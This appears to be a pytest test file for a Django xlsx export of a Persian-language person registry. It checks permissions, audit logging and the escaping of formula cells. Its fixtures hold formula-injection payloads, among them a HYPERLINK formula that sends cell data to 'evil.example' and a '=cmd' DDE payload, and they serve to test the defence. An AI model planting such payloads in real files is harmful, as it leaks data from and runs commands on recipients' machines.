"""xlsx export of a filtered list: allowed columns only, formulas defused, audited."""

import io

import pytest
from django.core.exceptions import PermissionDenied
from django.urls import reverse
from openpyxl import load_workbook

from tavana.accounts import roles
from tavana.audit.models import AuditEntry
from tavana.core.domain.identifiers import make_national_code
from tavana.core.models import District
from tavana.people import services
from tavana.people.export.workbook import COLUMNS, SENSITIVE_COLUMNS, person_export, safe_text

pytestmark = pytest.mark.django_db

URL = "/people/export/persons.xlsx"
CANARY_HEALTH = "canary-health-7f3a"
CANARY_INCOME = 98765431
NASTY = {
    "address": '=HYPERLINK("http://evil.example/?x="&A1,"کلیک")',
    "occupation": "+1",
    "other_phones": "-1",
    "father_name": "@SUM",  # a name field: the checker refuses digits, not symbols
}


@pytest.fixture
def districts(db):
    return {n: District.objects.create(number=n, name=f"منطقهٔ {n}") for n in (4, 9)}


@pytest.fixture
def admin(make_user, districts):
    return make_user(roles.ADMINISTRATOR, username="admin1")


@pytest.fixture
def registrar(make_user, districts):
    user = make_user(roles.REGISTRAR, username="zahra")
    user.districts.set([districts[4]])
    return user


@pytest.fixture
def people(admin):
    made = [
        services.person_create(
            actor=admin,
            data={
                "national_code": make_national_code("001234567"),
                "first_name": "مریم",
                "last_name": "رضایی‌پور",
                "birth_date": "1360/05/10",
                "mobile": "09121112233",
                "district": "4",
                "education": "diploma",
                "monthly_income": str(CANARY_INCOME),
                "health_notes": CANARY_HEALTH,
            },
            registration={"channel": "staff", "basis": "carries"},
        ),
        services.person_create(
            actor=admin,
            data={"first_name": "سمیه", "last_name": "اکبری", "district": "4", **NASTY},
        ),
        services.person_create(
            actor=admin, data={"first_name": "سارا", "last_name": "کاظمی", "district": "9"}
        ),
    ]
    return made


def rows_of(content: bytes) -> list[list]:
    ws = load_workbook(io.BytesIO(content)).active
    return [[c.value for c in row] for row in ws.iter_rows()]


def download(client, **params):
    r = client.get(URL, params)
    assert r.status_code == 200, r.status_code
    assert r["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in r["Content-Disposition"]
    return r, b"".join(r.streaming_content)


def test_registrar_gets_persian_headers_jalali_dates_and_her_districts_only(
    client, registrar, people
):
    client.force_login(registrar)
    _r, content = download(client)
    rows = rows_of(content)
    assert rows[0] == [c.header for c in COLUMNS]
    assert rows[0][:5] == ["شناسه", "کد ملی", "نام", "نام خانوادگی", "نام پدر"]
    by_name = {r[2]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert set(by_name) == {"مریم", "سمیه"}  # district 9 is outside her scope
    maryam = by_name["مریم"]
    assert maryam["تاریخ تولد"] == "1360/05/10"
    assert maryam["کد ملی"] == make_national_code("001234567")  # text: leading zeros kept
    assert maryam["منطقه"] == 4 and maryam["تحصیلات"] == "دیپلم"
    flat = repr(rows)
    assert CANARY_HEALTH not in flat and str(CANARY_INCOME) not in flat
    assert "سلامت و معلولیت" not in rows[0] and "درآمد ماهانه (تومان)" not in rows[0]
    # nothing says why she is served
    for word in ("معیشت", "سرپرست", "basis", "carries", "ثبت توسط کارشناس"):
        assert word not in flat
    ws = load_workbook(io.BytesIO(content)).active
    assert ws.sheet_view.rightToLeft


def test_cells_a_spreadsheet_would_evaluate_are_escaped(client, registrar, people):
    client.force_login(registrar)
    _r, content = download(client, q="اکبری")
    ws = load_workbook(io.BytesIO(content)).active
    header = [c.value for c in ws[1]]
    (row,) = list(ws.iter_rows(min_row=2))
    cells = dict(zip(header, row, strict=True))
    for field, header_name in (
        ("address", "نشانی"),
        ("occupation", "شغل"),
        ("other_phones", "تلفن‌های دیگر"),
        ("father_name", "نام پدر"),
    ):
        cell = cells[header_name]
        assert cell.data_type == "s", (field, cell.data_type)
        assert cell.value == "'" + NASTY[field], field
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f"


@pytest.mark.parametrize(
    "typed, shown",
    [
        ("=1+2", "'=1+2"),
        ("+98 912", "'+98 912"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("خیابان = ۲", "خیابان = ۲"),
        ("a\x00b", "ab"),
    ],
)
def test_safe_text(typed, shown):
    assert safe_text(typed) == shown


def test_filters_and_the_export_itself_are_audited(client, registrar, people):
    client.force_login(registrar)
    _r, content = download(client, district="۴", q="مريم")  # Persian digits, Arabic yeh
    rows = rows_of(content)
    assert [r[2] for r in rows[1:]] == ["مریم"]
    entry = AuditEntry.objects.filter(action="person.export").latest("seq")
    assert entry.actor_id == registrar.pk and entry.kind == AuditEntry.KIND_ACCESS
    assert entry.after["rows"] == 1
    assert entry.after["filters"] == {"q": "مريم", "district": 4}
    assert not AuditEntry.objects.filter(kind=AuditEntry.KIND_READ).exists()


def test_sensitive_columns_only_for_a_cleared_role_who_asks_and_audited(
    client, admin, registrar, people
):
    client.force_login(admin)
    _r, content = download(client, district="4")
    assert CANARY_HEALTH not in repr(rows_of(content))  # not asked: not there
    _r, content = download(client, district="4", include="sensitive", reason="گزارش پرونده‌ها")
    rows = rows_of(content)
    assert rows[0] == [c.header for c in COLUMNS + SENSITIVE_COLUMNS]
    maryam = dict(zip(rows[0], next(r for r in rows if r[2] == "مریم"), strict=True))
    assert maryam["سلامت و معلولیت"] == CANARY_HEALTH
    assert maryam["درآمد ماهانه (تومان)"] == CANARY_INCOME
    read = AuditEntry.objects.get(kind=AuditEntry.KIND_READ, action="person.export_sensitive")
    assert read.actor_id == admin.pk and set(read.fields) == {"health_notes", "monthly_income"}

    client.force_login(registrar)
    r = client.get(URL, {"include": "sensitive"})
    assert r.status_code == 403
    assert AuditEntry.objects.filter(kind=AuditEntry.KIND_READ).count() == 1


@pytest.mark.parametrize(
    "role", [r for r in roles.ROLES if r not in (roles.ADMINISTRATOR, roles.REGISTRAR)]
)
def test_roles_without_the_export_right_get_403_and_nothing_is_audited(
    role, client, make_user, people
):
    client.force_login(make_user(role))
    assert client.get(URL).status_code == 403
    assert not AuditEntry.objects.filter(action="person.export").exists()


def test_anonymous_is_sent_to_the_login_page(client, people):
    r = client.get(URL)
    assert r.status_code == 302 and reverse("accounts:login") in r["Location"]


def test_bad_district_is_400(client, registrar):
    client.force_login(registrar)
    assert client.get(URL, {"district": "چهار"}).status_code == 400


def test_service_streams_many_rows_and_refuses_without_the_right(make_user, admin, districts):
    from tavana.people.models import Person

    Person.objects.bulk_create(
        Person(
            first_name=f"نام{i}",
            last_name="=cmd|' /C calc'!A0" if i % 2 else "احمدی",
            name_key=f"نام{i} احمدی",
            district=districts[9],
        )
        for i in range(3000)
    )
    out = io.BytesIO()
    assert person_export(actor=admin, out=out, district=9, chunk_size=500) == 3000
    ws = load_workbook(io.BytesIO(out.getvalue()), read_only=True).active
    n = 0
    for row in ws.iter_rows(min_row=2, values_only=True):
        assert not str(row[3]).startswith("=")
        n += 1
    assert n == 3000
    with pytest.raises(PermissionDenied):
        person_export(actor=make_user(roles.SOCIAL_WORKER), out=io.BytesIO())
    registrar = make_user(roles.REGISTRAR)
    with pytest.raises(PermissionDenied):
        person_export(
            actor=registrar, out=io.BytesIO(), include_sensitive=True, reason="گزارش ماهانه"
        )


def test_with_q_the_rows_are_the_search_boxs_results_in_its_order(client, admin, districts):
    for last in ("ملکوتی", "ملکیان", "ملکی", "احمدی"):
        services.person_create(
            actor=admin, data={"first_name": "نگار", "last_name": last, "district": "9"}
        )
    client.force_login(admin)
    api = client.get("/api/persons", {"q": "ملكي", "limit": 100}).json()["items"]
    _r, content = download(client, q="ملكي")
    rows = rows_of(content)
    assert [r[0] for r in rows[1:]] == [p["id"] for p in api]
    assert "احمدی" not in [r[3] for r in rows[1:]]
    _r, content = download(client, q="ملكي", district="4")
    assert rows_of(content)[1:] == []


def test_a_childs_sex_reads_girl_or_boy_and_a_grown_ups_woman(client, admin, people):
    mother = people[0]
    for first, sex in (("نرگس", "F"), ("علی", "M")):
        services.child_register(
            actor=admin,
            parent=mother,
            data={"first_name": first, "last_name": "رضایی‌پور", "birth_date": "1395/01/15",
                  "sex": sex},
        )  # fmt: skip
    client.force_login(admin)
    rows = rows_of(download(client)[1])
    sex = {r[2]: dict(zip(rows[0], r, strict=True))["جنس"] for r in rows[1:]}
    assert sex["نرگس"] == "دختر" and sex["علی"] == "پسر"
    assert sex["مریم"] == "زن" and sex["سارا"] == "زن"
